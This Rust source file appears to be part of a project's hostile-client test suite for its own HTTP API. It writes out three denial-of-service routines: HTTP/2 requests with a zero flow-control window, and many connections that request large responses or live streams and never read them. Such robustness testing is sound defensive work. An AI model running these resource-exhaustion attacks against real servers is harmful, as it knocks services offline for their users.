//! Clients that do not read responses.

use std::io::{Read as _, Write as _};
use std::thread::sleep;
use std::time::Duration;

use anyhow::{Result, ensure};

use super::queries::send_numbers;
use crate::hostile::attack_target::AttackTarget;
use crate::hostile::bytes::{
    END_HEADERS, END_STREAM, FrameKind, PREFACE, frame, hpack_get, zero_window_settings,
};
use crate::hostile::client::{connect, percent_encode, request_head};

/// How long responses stay unread.
const HOLD_TIME: Duration = Duration::from_secs(8);

/// Many HTTP/2 requests without a token, with a flow control window of 0.
pub(super) fn zero_window(scene: &AttackTarget) -> Result<String> {
    let authority = scene.address().to_string();
    let mut request = [PREFACE, &zero_window_settings()].concat();
    for at in 0..100 {
        let block = hpack_get(["/v1/openapi.json", "/"][at as usize % 2], &authority);
        let headers = frame(FrameKind::Headers, END_STREAM | END_HEADERS, 2 * at + 1, &block);
        request.extend_from_slice(&headers);
    }
    let mut open = Vec::new();
    for _ in 0..200 {
        let mut stream = connect(scene.address())?;
        // The server may close the connection, which releases its memory.
        let _ = stream.write_all(&request);
        open.push(stream);
    }
    sleep(HOLD_TIME);
    Ok(String::new())
}

/// Large responses to many clients that do not read.
pub(super) fn unread_responses(scene: &AttackTarget) -> Result<String> {
    let (from, to) = send_numbers(scene, "unread", 1_000, 200)?;
    let path = format!("/v1/query?query=unread&from={from}&to={to}&step=10s");
    let answer = scene.request("GET", &path, &[], b"")?;
    ensure!(answer.status == 200, "{}: {}", answer.status, answer.text());
    let token = AttackTarget::authorization_header(&scene.hostile_token);
    let request =
        request_head(scene.address(), "GET", &path, &[("Authorization", &token)]) + "\r\n";
    let mut open = Vec::new();
    for _ in 0..150 {
        let mut stream = connect(scene.address())?;
        stream.write_all(request.as_bytes())?;
        open.push(stream);
    }
    // The first byte shows whether the server responds or rejects.
    for stream in &mut open {
        let _ = stream.read(&mut [0]);
    }
    sleep(HOLD_TIME);
    Ok(format!("150 responses of {} MiB", answer.body.len() >> 20))
}

/// The maximum number of clients of the live stream, none of which reads, while much data is
/// ingested.
pub(super) fn unread_streams(scene: &AttackTarget) -> Result<String> {
    let token = AttackTarget::authorization_header(&scene.hostile_token);
    let path = format!("/v1/stream?selector={}", percent_encode("streamed"));
    let request =
        request_head(scene.address(), "GET", &path, &[("Authorization", &token)]) + "\r\n";
    let mut open = Vec::new();
    for _ in 0..100 {
        let mut stream = connect(scene.address())?;
        stream.write_all(request.as_bytes())?;
        open.push(stream);
    }
    send_numbers(scene, "streamed", 2_000, 100)?;
    Ok(String::new())
}
